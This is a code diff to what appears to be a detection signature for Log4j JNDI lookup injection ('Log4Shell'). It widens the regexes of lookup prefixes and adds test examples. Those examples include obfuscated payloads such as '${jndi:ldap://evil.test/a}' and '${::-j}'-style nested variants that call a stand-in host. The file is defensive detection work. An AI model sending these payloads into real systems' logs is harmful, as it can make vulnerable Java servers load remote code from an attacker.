@@ -23,9 +23,10 @@ const LEFT_OUT = /^\s{0,4}jndi:\w{1,8}:\/\/(?:\.{3}|…)\s{0,4}$/;
 const SUREST = 0.98;
 /** Values of the server itself. */
 const SERVER_VALUE =
-  /^\s{0,4}(?:env|sys|java|main|bundle|hostname|log4j|ctx|sd|marker|base64|web|docker|k8s|spring|const|properties|localhost|resourcebundle|urldecoder|base64decoder)\s{0,4}:\s{0,4}\w/;
+  /^\s{0,4}(?:env|sys|java|main|bundle|hostname|log4j|ctx|sd|marker|base64|web|docker|k8s|spring|const|properties|localhost|resourcebundle|urldecoder|base64decoder|event|lower|upper|kubernetes|jvmrunargs)\s{0,4}:\s{0,4}\w/;
 /** Lookups that no other notation has, so that not even a setting holds them as a whole. */
-const OF_LOGGER = /^\s{0,4}(?:java|main|ctx|bundle|log4j|sd|marker|base64)\s{0,4}:/;
+const OF_LOGGER =
+  /^\s{0,4}(?:java|main|ctx|bundle|log4j|sd|marker|base64|event|lower|upper|spring|k8s|docker|jvmrunargs)\s{0,4}:/;
 const SECRET = /secret|passw|token|access_?key|api_?key|credential|aws_|database_url/;
 
 /** Lookups that a logging library follows to a foreign server (`${jndi:ldap://…}`), however they are nested. */
@@ -35,6 +36,8 @@ export const jndiLookup: Signature = {
   impact: [35, 45],
   examples: {
     hits: [
+      '${event:Message}',
+      { body: '{"q":"${lower:X}"}', contentType: 'application/json' },
       '${jndi:ldap://evil.test/a}',
       '${${lower:j}ndi:${lower:l}dap://evil.test/a}',
       '${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil.test/a}',
